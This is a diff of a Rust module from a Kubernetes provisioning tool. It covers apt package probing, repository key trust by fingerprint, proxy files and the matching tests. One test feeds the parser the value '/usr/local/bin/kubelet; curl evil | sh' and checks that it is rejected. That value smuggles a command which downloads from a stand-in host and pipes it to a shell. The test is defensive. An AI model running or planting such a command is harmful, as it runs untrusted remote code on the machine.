@@ -12,14 +12,15 @@ use kubestead_core::procedure::Procedure;
 use kubestead_core::put::Owned;
 use serde::{Deserialize, Serialize};
 
+use super::proxy;
+use super::repository::{self, DOCKER, KUBERNETES, Offer, Place};
+use crate::apt_key::Fingerprint;
 use crate::bundle::{BundleFile, Kind};
 
 /// What is installed by name, and held.
 pub(super) const NAMES: [&str; 3] = ["kubeadm", "kubelet", "kubectl"];
-const KEYRING: &str = "/etc/apt/keyrings/kubestead-kubernetes.asc";
-const SOURCES: &str = "/etc/apt/sources.list.d/kubestead-kubernetes.sources";
 /// There while an installation of ours runs: only then may dpkg's interrupted work be finished without asking.
-const BEGUN: &str = "/var/lib/kubestead/packages-begun";
+pub(super) const BEGUN: &str = "/var/lib/kubestead/packages-begun";
 /// Files that a bundle installs and that would be used instead of the packages' own.
 const HIDING: [&str; 5] = [
     "/usr/local/bin/kubeadm",
@@ -46,8 +47,18 @@ pub struct Packages {
     pub version: String,
     /// The repository's address without the minor, such as `https://pkgs.k8s.io/core:/stable:`.
     pub repository: String,
-    /// The armoured public key that signs it.
-    pub key: String,
+    /// Which key signs it.
+    pub trust: Trust,
+}
+
+/// How the key is known that signs the repository.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum Trust {
+    /// It is this one, armoured.
+    Key(String),
+    /// The repository offers it, and it has this fingerprint.
+    Fingerprint(Fingerprint),
 }
 
 impl Packages {
@@ -57,11 +68,17 @@ impl Packages {
         format!("{}/v{minor}/deb", self.repository)
     }
 
-    /// The keyring and the source of apt.
+    /// The lines of the source that say where.
+    pub(super) fn lines(&self) -> String {
+        format!("URIs: {}/\nSuites: /\n", self.address())
+    }
+
+    /// The keyring and the source of apt, when the key is at hand.
     pub(super) fn files(&self) -> Vec<Owned> {
-        let source = format!("# Written by kubestead.\nTypes: deb\nURIs: {}/\nSuites: /\nSigned-By: {KEYRING}\n", self.address());
+        let Trust::Key(key) = &self.trust else { return Vec::new() };
+        let source = format!("# Written by kubestead.\nTypes: deb\n{}Signed-By: {}\n", self.lines(), KUBERNETES.keyring);
         let owned = |path: &str, text: &str| Owned { path: path.to_owned(), text: text.to_owned(), mode: 0o644 };
-        vec![owned(KEYRING, &self.key), owned(SOURCES, &source)]
+        vec![owned(KUBERNETES.keyring, key), owned(KUBERNETES.source, &source)]
     }
 
     /// Whether a package's version is one of this version: `1.37.1-1.1` is one of 1.37.1.
@@ -80,6 +97,18 @@ pub struct AptFacts {
     pub rivals: Vec<String>,
     /// Files that would be used instead of the packages' own.
     pub hiding: Vec<String>,
+    /// Files that tell of proxies, when the cluster file names none.
+    #[serde(default)]
+    pub proxied: Vec<String>,
+    /// The repository of Kubernetes, when its key is known by its fingerprint.
+    #[serde(default)]
+    pub kubernetes: Option<Offer>,
+    /// Docker's repository, when containerd may come from it.
+    #[serde(default)]
+    pub docker: Option<Offer>,
+    /// Other files that name Docker's repository.
+    #[serde(default)]
+    pub docker_rivals: Vec<String>,
 }
 
 /// A package.
@@ -101,17 +130,22 @@ impl AptFacts {
     }
 }
 
-/// The sections of the probe.
-pub(super) fn sections(wanted: &Packages) -> Vec<Section> {
+/// The sections of the probe; `beside` are packages that are looked for too, and `left` files that are not to be there.
+pub(super) fn sections(wanted: &Packages, beside: &[&str], left: &[&str]) -> Vec<Section> {
     vec![
-        Section::script("node/packages", include_str!("scripts/probe-packages.sh")).list("names", NAMES),
-        Section::script("node/rivals", include_str!("scripts/probe-rivals.sh")).var("uri", wanted.address()).var("own", SOURCES),
-        Section::script("node/hiding", include_str!("scripts/probe-hiding.sh")).list("paths", HIDING),
+        Section::script("node/packages", include_str!("scripts/probe-packages.sh")).list("names", NAMES.iter().chain(beside)),
+        rivals("node/rivals", &wanted.address(), KUBERNETES),
+        Section::script("node/hiding", include_str!("scripts/probe-hiding.sh")).list("paths", HIDING.iter().chain(left)),
     ]
 }
 
+/// The section that finds other files that name a repository.
+pub(super) fn rivals(name: &str, uri: &str, place: Place) -> Section {
+    Section::script(name, include_str!("scripts/probe-rivals.sh")).var("uri", uri).var("own", place.source)
+}
+
 /// Reads the answers.
-pub(super) fn read(answers: &Answers) -> Result<AptFacts, Gap> {
+pub(super) fn read(wanted: &Packages, with_runtime: bool, answers: &Answers) -> Result<AptFacts, Gap> {
     let lines = |name: &str| Ok(answers.text(name)?.lines().map(str::to_owned).collect());
     let mut packages = BTreeMap::new();
     for line in answers.text("node/packages")?.lines() {
@@ -124,16 +158,28 @@ pub(super) fn read(answers: &Answers) -> Result<AptFacts, Gap> {
     }
     // They stand in a command that is shown: only what was asked for is taken.
     let hiding: Vec<String> = lines("node/hiding")?;
-    match hiding.iter().find(|file| !HIDING.contains(&file.as_str())) {
-        Some(other) => Err(Gap::new(format!("ls answered with a file that was not asked for: {other:?}"))),
-        None => Ok(AptFacts { packages, rivals: lines("node/rivals")?, hiding }),
+    if let Some(other) = hiding.iter().find(|file| !HIDING.contains(&file.as_str()) && !proxy::FILES.contains(&file.as_str())) {
+        return Err(Gap::new(format!("ls answered with a file that was not asked for: {other:?}")));
     }
+    let (proxied, hiding) = hiding.into_iter().partition(|file| proxy::FILES.contains(&file.as_str()));
+    let by_print = matches!(wanted.trust, Trust::Fingerprint(_));
+    let look = |place| repository::read(place, answers);
+    Ok(AptFacts {
+        packages,
+        rivals: lines("node/rivals")?,
+        hiding,
+        proxied,
+        kubernetes: by_print.then_some(KUBERNETES).map(look).transpose()?,
+        docker: with_runtime.then_some(DOCKER).map(look).transpose()?,
+        docker_rivals: if with_runtime { lines("node/docker-rivals")? } else { Vec::new() },
+    })
 }
 
 /// Why packages are not installed on a node.
 pub(super) fn obstacles(node: &Name, wanted: &Packages, facts: &AptFacts) -> Vec<Held> {
     let mut held = Vec::new();
-    for (name, package) in facts.packages.iter().filter(|(_, p)| !wanted.is(&p.version)) {
+    let own = facts.packages.iter().filter(|(name, _)| NAMES.contains(&name.as_str()));
+    for (name, package) in own.filter(|(_, p)| !wanted.is(&p.version)) {
         let reason = format!("the package {name} is there in version {}, and the file asks for {}", package.version, wanted.version);
         let hint = "ask for that version in kubernetes.version, or take the package away: kubestead does not change a version yet";
         held.push(Held::on(node, name, reason, hint));
@@ -143,6 +189,12 @@ pub(super) fn obstacles(node: &Name, wanted: &Packages, facts: &AptFacts) -> Vec
         let reason = format!("from a bundle, and used instead of the packages' own: {files}");
         held.push(Held::on(node, "packages", reason, format!("rm {files}; systemctl daemon-reload")));
     }
+    if !facts.proxied.is_empty() {
+        let files = facts.proxied.join(" ");
+        let reason = format!("{files}: of kubernetes.proxy, which the file does not name any more");
+        let hint = format!("rm {files}; systemctl daemon-reload; systemctl restart containerd kubelet");
+        held.push(Held::on(node, "proxy", reason, hint));
+    }
     for file in &facts.rivals {
         let reason = format!("{file} names the repository {} too, and apt refuses a second keyring for it", wanted.address());
         held.push(Held::on(node, "packages", reason, format!("remove it from {file}")));
@@ -150,13 +202,29 @@ pub(super) fn obstacles(node: &Name, wanted: &Packages, facts: &AptFacts) -> Vec
     held
 }
 
+/// A package that is missing and that the repository does not have at the version.
+pub(super) fn not_offered(node: &Name, wanted: &Packages, facts: &AptFacts, offer: &Offer) -> Option<Held> {
+    if !offer.asked || offer.failure.is_some() {
+        return None;
+    }
+    let none = Vec::new();
+    let missing = NAMES.iter().filter(|name| !facts.packages.get(**name).is_some_and(|p| p.whole));
+    let (name, all) = missing
+        .map(|name| (name, offer.versions.get(*name).unwrap_or(&none)))
+        .find(|(_, all)| !all.iter().any(|version| wanted.is(version)))?;
+    let has = if all.is_empty() { "no version of it".to_owned() } else { all.join(" ") };
+    let reason = format!("{name} {} is not in {}, which has: {has}", wanted.version, wanted.address());
+    Some(Held::on(node, name, reason, "ask for one of these in kubernetes.version"))
+}
+
 /// Installs exactly that version and holds it. A run that was killed is taken up again.
 pub(super) fn install(version: &str, address: &str) -> Procedure {
     Procedure::script(include_str!("scripts/packages.sh"))
+        .after(include_str!("scripts/apt.sh"))
         .list("names", NAMES)
-        .var("version", version)
-        .var("uri", address)
-        .var("source", SOURCES)
+        .var("version", format!("{version}-"))
+        .var("uri", format!("{address}/"))
+        .var("source", KUBERNETES.source)
         .var("begun", BEGUN)
 }
 
@@ -165,11 +233,11 @@ mod tests {
     use super::*;
 
     fn wanted() -> Packages {
-        Packages { version: "1.37.1".into(), repository: "https://pkgs.k8s.io/core:/stable:".into(), key: "KEY\n".into() }
+        Packages { version: "1.37.1".into(), repository: "https://pkgs.k8s.io/core:/stable:".into(), trust: Trust::Key("KEY\n".into()) }
     }
 
     fn facts(packages: &str) -> Result<AptFacts, Gap> {
-        read(&Answers::from_pairs([("node/packages", 0, packages), ("node/rivals", 0, ""), ("node/hiding", 0, "")]))
+        read(&wanted(), false, &Answers::from_pairs([("node/packages", 0, packages), ("node/rivals", 0, ""), ("node/hiding", 0, "")]))
     }
 
     #[test]
@@ -212,7 +280,11 @@ mod tests {
         found.hiding.push("/usr/local/bin/kubelet".into());
         let none = [("node/packages", 0, ""), ("node/rivals", 0, "")];
         for (said, good) in [("/usr/local/bin/kubelet\n", true), ("/usr/local/bin/kubelet; curl evil | sh\n", false)] {
-            assert_eq!(read(&Answers::from_pairs(none.into_iter().chain([("node/hiding", 0, said)]))).is_ok(), good, "{said}");
+            assert_eq!(
+                read(&wanted(), false, &Answers::from_pairs(none.into_iter().chain([("node/hiding", 0, said)]))).is_ok(),
+                good,
+                "{said}"
+            );
         }
         let text: String = obstacles(&node, &wanted(), &found).iter().map(|h| format!("{} {}\n", h.reason, h.hint)).collect();
         assert!(text.contains("k8s.list") && text.contains("rm /usr/local/bin/kubelet"), "{text}");
@@ -283,7 +355,7 @@ mod tests {
         };
         let place = root.path().display().to_string();
         let look = || {
-            let script = kubestead_core::probe::command(&sections(&wanted()), "n1").script().into_owned();
+            let script = kubestead_core::probe::command(&sections(&wanted(), &[], &proxy::FILES), "n1").script().into_owned();
             let script = ["/etc/apt", "/etc/systemd", "/usr/local/bin"]
                 .iter()
                 .fold(script, |script, path| script.replace(path, &format!("{place}{path}")));
@@ -295,25 +367,33 @@ mod tests {
             "bin/dpkg-query",
             "#!/bin/bash\n[ \"${*: -3}\" = 'kubeadm kubelet kubectl' ] && echo 'kubelet installed hold 1.37.1-1.1'\nexit 1\n",
         );
-        let found = read(&look()).unwrap();
+        let found = read(&wanted(), false, &look()).unwrap();
         assert!(found.packages["kubelet"].held && found.rivals.is_empty() && found.hiding.is_empty(), "{found:?}");
         let line = "deb https://pkgs.k8s.io/core:/stable:/v1.37/deb/ /\n";
         write("etc/apt/sources.list", line);
         for (name, text) in [("a.list", format!("  # {line}")), ("it's b.sources", line.into()), ("c.list", line.replace("37", "36"))] {
             write(&format!("etc/apt/sources.list.d/{name}"), &text);
         }
-        write(SOURCES.trim_start_matches('/'), line);
+        write(KUBERNETES.source.trim_start_matches('/'), line);
         write("usr/local/bin/kubelet", "");
         let answers = look();
         let told = |section: &str| answers.text(section).unwrap().replace(&place, "");
         assert_eq!(told("node/rivals"), "/etc/apt/sources.list\n/etc/apt/sources.list.d/it's b.sources\n");
         assert_eq!(told("node/hiding"), "/usr/local/bin/kubelet\n");
+        std::fs::remove_file(root.path().join("usr/local/bin/kubelet")).unwrap();
+        write(proxy::KUBELET.trim_start_matches('/'), "");
+        let answers = look();
+        assert_eq!(answers.text("node/hiding").unwrap().replace(&place, "").trim(), proxy::KUBELET);
+        let all = [("node/packages", String::new()), ("node/rivals", String::new()), ("node/hiding", format!("{}\n", proxy::KUBELET))];
+        let found = read(&wanted(), false, &Answers::from_pairs(all.map(|(name, text)| (name, 0, text)))).unwrap();
+        let held = obstacles(&Name::new("kube1").unwrap(), &wanted(), &found);
+        assert!(held.len() == 1 && held[0].hint.starts_with(&format!("rm {}; systemctl daemon-reload", proxy::KUBELET)), "{held:?}");
     }
 
     #[test]
     fn the_scripts_are_ones_that_bash_can_read() {
         let script = install("1.37.1", &wanted().address()).command().script().into_owned();
-        for text in sections(&wanted()).into_iter().map(|s| s.script).chain([script]) {
+        for text in sections(&wanted(), &[], &proxy::FILES).into_iter().map(|s| s.script).chain([script]) {
             let status = std::process::Command::new("bash").args(["-n", "-c", &text]).status().unwrap();
             assert!(status.success(), "{text}");
         }
